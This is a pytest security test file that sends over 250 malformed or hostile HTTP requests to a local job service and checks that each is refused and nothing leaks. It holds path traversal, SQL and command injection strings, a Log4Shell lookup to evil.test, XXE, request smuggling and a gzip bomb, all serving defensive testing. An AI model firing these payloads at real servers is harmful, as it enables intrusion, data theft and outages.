"""Requests that are no proper requests: each with what must be answered, and what must not have happened."""

from __future__ import annotations

import gzip
import json
from dataclasses import dataclass, field

import pytest
from wire import Headers, send, written

JSON = ("Content-Type", "application/json")
RECIPE = {"recipe": {"name": "tiny", "data": {"sources": ["story.txt"]}}}
GOOD = json.dumps(RECIPE).encode()
PART = b'--x\r\nContent-Disposition: form-data; name="p%d"\r\n\r\n1\r\n'
FILE = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
REFUSED, UNKNOWN, UNREADABLE = (403,), (404,), (422,)


@dataclass(frozen=True)
class Attack:
    """What is sent with the owner's key, and the statuses that may come back (0: the connection is ended)."""

    name: str
    method: str
    path: str
    expected: tuple[int, ...]
    headers: Headers = ()
    body: bytes = b""
    host: str | None = ""
    says: str = ""
    raw: bytes = field(default=b"", repr=False)


def hosts() -> list[Attack]:
    names = [
        "evil.test", "evil.test:80", "127.0.0.1.evil.test", "localhost.evil.test", "localhost.", "x@localhost",
        "localhost/x", "[::1", "169.254.169.254", "0.0.0.0", "2130706433",  # noqa: S104
        "localhost\tx", "l\xd0\xbecalhost",
    ]  # fmt: skip
    found = [Attack(f"host {name!r}", "GET", "/runs", (*REFUSED, 400), host=name) for name in names]
    found += [
        Attack("no host", "GET", "/runs", (400,), host=None),
        Attack("empty host", "GET", "/runs", (*REFUSED, 400), host=" "),
        Attack("two hosts", "GET", "/runs", (*REFUSED, 400), (("Host", "localhost"),)),
        Attack("host of another in the address", "GET", "http://evil.test/runs", (*UNKNOWN, 400)),
        Attack("forwarded host", "GET", "/nothing", UNKNOWN, (("X-Forwarded-Host", "evil.test"),)),
        Attack("rebound name on an open route", "GET", "/healthz", REFUSED, host="rebind.evil.test:8040"),
    ]
    return found


def pages() -> list[Attack]:
    found = [
        Attack(f"{method} from {origin}", method, path, REFUSED, (("Origin", origin),), says="another origin")
        for origin in ("https://evil.test", "null", "http://localhost.evil.test", "file://", "http://127.0.0.1:1")
        for method, path in (("GET", "/runs"), ("POST", "/runs/train"), ("OPTIONS", "/runs"))
    ]
    found += [
        Attack(f"sent by a page that is {site}", "GET", "/runs", REFUSED, (("Sec-Fetch-Site", site),))
        for site in ("cross-site", "same-site")
    ]
    asked = (("Origin", "https://evil.test"), ("Access-Control-Request-Method", "POST"))
    return [*found, Attack("preflight", "OPTIONS", "/runs/train", REFUSED, asked)]


def traversals() -> list[Attack]:
    parts = [
        "..", "../..", "%2e%2e", "%2e%2e%2f%2e%2e", "..%2f..%2fsecret.txt", "%252e%252e", "..%5c..%5csecret.txt",
        "%c0%ae%c0%ae", "%00", "..%00", "/etc/passwd", "%2fetc%2fpasswd", "C:", "C:%5cwindows", "%5c%5chost%5cshare",
        "file:%2f%2f%2fetc%2fpasswd", "a" * 5000, "-rf", "~", "%0d%0aSet-Cookie:x=y", "%ff%fe", ".", "con", "*",
    ]  # fmt: skip
    where = ["/runs/{}", "/runs/{}/logs", "/v1/files/{}", "/v1/files/{}/content", "/v1/fine_tuning/jobs/{}", "/jobs/{}"]
    # Where the server takes dots out of a path by no rule, a path with them is simply another one.
    found = [
        Attack(f"{place} with {part[:40]!r}", "GET", place.format(part), (*UNKNOWN, *UNREADABLE, 400, 405))
        for place in where
        for part in parts
        if not (place in ("/runs/{}", "/v1/files/{}") and part == "")
    ]
    rest = ["/x/../runs", "//runs", "/./runs", "/%2e%2e/runs", "/runs/", "/RUNS", "/runs%2f", "/runs;x", "/runs\\"]
    found += [Attack(f"path {path}", "GET", path, (*UNKNOWN, *UNREADABLE, 400)) for path in rest]
    return found


def bodies() -> list[Attack]:
    def train(name: str, body: bytes, *expected: int, headers: Headers = (JSON,), says: str = "") -> Attack:
        return Attack(name, "POST", "/runs/train", expected, headers, body, says=says)

    deep = b'{"recipe": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}"
    return [
        train("too large", b"x" * 200_001, 413, says="may have 200000 bytes"),
        train("an announced length that is none", b"{}", 400, headers=(JSON, ("Content-Length", "9" * 30))),
        train("deep list", b"[" * 100_000, 422, says="64 levels"),
        train("deep object", deep, 422, says="64 levels"),
        train("a key twice", b'{"recipe": {"name": "a"}, "recipe": {"name": "b"}}', 422, says="stands there twice"),
        train("NaN", b'{"recipe": {}, "priority": NaN}', 422, says="no number"),
        train("infinity", b'{"recipe": {}, "priority": 1e999}', 422, says="too large"),
        train("an endless number", b'{"recipe": {}, "priority": ' + b"9" * 100_000 + b"}", 422, says="too large"),
        train("half a letter", b'{"recipe": {"name": "\\ud800"}}', 422, says="half a letter"),
        train("NUL", b'{"recipe": {"name": "a\\u0000b"}}', 422, says="letter NUL"),
        train("UTF-16", json.dumps(RECIPE).encode("utf-16"), 422, says="no UTF-8"),
        train("a text as JSON", GOOD, 422, headers=(("Content-Type", "text/plain"),)),
        train("no content type", GOOD, 422, headers=(("Content-Type", ""),)),
        train("a form", b"recipe=1", 422, headers=(("Content-Type", "application/x-www-form-urlencoded"),)),
        train("XML", b"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", 422,
              headers=(("Content-Type", "application/xml"),)),
        train("packed", gzip.compress(GOOD), 415, headers=(JSON, ("Content-Encoding", "gzip"))),
        train("a packed bomb", gzip.compress(b"0" * 50_000_000), 415, headers=(JSON, ("Content-Encoding", "gzip"))),
        train("another class", b'{"recipe": {"__class__": "x", "__proto__": {}}}', 400, says="__class__"),
        train("a list for an object", b"[]", 422),
        train("an unknown key", b'{"recipe": {}, "is_admin": true}', 422, says="is_admin"),
        train("nothing", b" ", 422),
        Attack("parts without end", "POST", "/v1/files", (400, 413, 422),
               (("Content-Type", "multipart/form-data; boundary=x"),),
               b"".join(PART % n for n in range(2000)) + b"--x--"),
        Attack("a boundary that is none", "POST", "/v1/files", (400, 422),
               (("Content-Type", "multipart/form-data; boundary="),), b"--x--"),
        Attack("an upload that is too large", "POST", "/v1/files", (413,),
               (("Content-Type", "multipart/form-data; boundary=x"),),
               FILE + b"0" * 500_000 + b"\r\n--x--"),
        Attack("many ranges", "GET", "/v1/files", (200,), (("Range", "bytes=" + ",".join(["0-0"] * 5000)),)),
    ]  # fmt: skip


def heads() -> list[Attack]:
    chunked = b"Transfer-Encoding: chunked\r\n\r\n"
    get = b"GET /runs HTTP/1.1\r\nHost: localhost\r\n"
    smuggled = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"

    def raw(name: str, text: bytes, *expected: int) -> Attack:
        return Attack(name, "", "", expected, raw=text)

    post = b"POST /runs/train HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
    return [
        Attack("a header without end", "GET", "/runs", (400, 0), (("X-A", "a" * 200_000),)),
        Attack("headers without end", "GET", "/runs", (400, 0), tuple((f"X-{n}", "a" * 60) for n in range(3000))),
        Attack("an address without end", "GET", "/runs?x=" + "a" * 200_000, (400, 0)),
        Attack("TRACE", "TRACE", "/runs", (401, 405)),
        Attack("CONNECT", "CONNECT", "evil.test:443", (400, 401, 404, 405)),
        Attack("a method of its own", "SECRETS", "/runs", (401, 405)),
        Attack("methods by header", "GET", "/runs/x/cancel", (404, 405), (("X-HTTP-Method-Override", "POST"),)),
        raw("two lengths", post + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\n[]" + smuggled, 400),
        raw("a length and chunks", post + b"Content-Length: 4\r\n" + chunked + b"0\r\n\r\n" + smuggled, 400, 401),
        raw("chunks of nonsense", post + chunked + b"ZZ\r\n", 400, 401),
        raw("another coding", post + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", 400, 501),
        raw("a line end in a header", get + b"X-A: a\rb\r\n\r\n", 400),
        raw("NUL in a header", get + b"X-A: a\0b\r\n\r\n", 400),
        raw("a folded header", get + b"Connection: close\r\nX: a\r\n b\r\n\r\n", 400, 401),
        raw("an old version", b"GET /runs HTTP/0.9\r\n\r\n", 400, 403, 0),
        raw("no HTTP at all", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 200, 400, 0),
        raw("Redis on the wrong door", b"*1\r\n$4\r\nINFO\r\n\r\n", 400, 0),
        Attack("a request id that forges", "GET", "/nothing", UNKNOWN, (("X-Request-ID", "a b<script>"),)),
        Attack("a cookie without end", "GET", "/runs", (401,), (("Cookie", "loquela_session=" + "a" * 30_000),)),
        Attack("an upgrade", "GET", "/events/stream", (401,),
               (("X-Api-Key", "x"), ("Connection", "close, Upgrade"), ("Upgrade", "websocket"),
                ("Sec-WebSocket-Key", "x"), ("Sec-WebSocket-Version", "13"))),
    ]  # fmt: skip


def queries() -> list[Attack]:
    names = [
        "' OR 1=1 --",
        "1; DROP TABLE jobs",
        "%27%20OR%20%271%27=%271",
        "{{7*7}}",
        "${jndi:ldap://evil.test}",
        "$(id)",
        "`id`",
    ]
    found = [
        Attack(f"{place} {name}", "GET", place + name.replace(" ", "%20"), (200, 400, 404, 422))
        for name in names
        for place in (
            "/runs?state=",
            "/runs?before=",
            "/runs/",
            "/v1/files?after=",
            "/v1/files?purpose=",
            "/audit?action=",
        )
    ]
    huge = "9" * 40
    found += [
        Attack(f"number {path}", "GET", path, (400, 422))
        for path in (
            f"/runs?before={huge}",
            f"/events?after={huge}",
            "/runs?limit=999999",
            "/runs?limit=-1",
            f"/audit?after={huge}",
        )
    ]
    return found


ATTACKS = [*hosts(), *pages(), *traversals(), *bodies(), *heads(), *queries()]


def test_the_table_names_each_attack_once() -> None:
    assert len({attack.name for attack in ATTACKS}) == len(ATTACKS) > 250


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name[:60])
def test_attack(target, attack: Attack) -> None:
    if attack.raw:
        answer = send(target.address, attack.raw)
    elif "Host" in dict(attack.headers):
        raw = written(target.address, attack.method, attack.path, (target.owner, *attack.headers), attack.body)
        answer = send(target.address, raw)
    else:
        answer = target.ask(attack.method, attack.path, *attack.headers, body=attack.body, host=attack.host)
    assert answer.status in attack.expected, answer
    target.gives_nothing_away(answer)
    if answer.headers.get("content-type") == "application/json" and answer.status >= 400:
        assert {"code", "message", "remedy", "request_id", "details"} == set(answer.error)
        assert attack.says in answer.error["message"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert all(letter.isprintable() for letter in answer.error["request_id"])


def test_after_all_of_it_nothing_was_queued_written_or_lost(target) -> None:
    assert target.runs() == 0
    assert target.outside() == [str(target.home / "secret.txt")]
    assert not list(target.data.glob("files/*"))
    assert [entry["target"] for entry in target.served.get("/audit?action=run.submit")["entries"]] == []
    target.is_well()


def test_the_data_folder_and_the_open_door_are_named_nowhere(target) -> None:
    for path in ("/healthz", "/readyz"):
        answer = target.anybody("GET", path)
        assert answer.status == 200
        target.gives_nothing_away(answer)
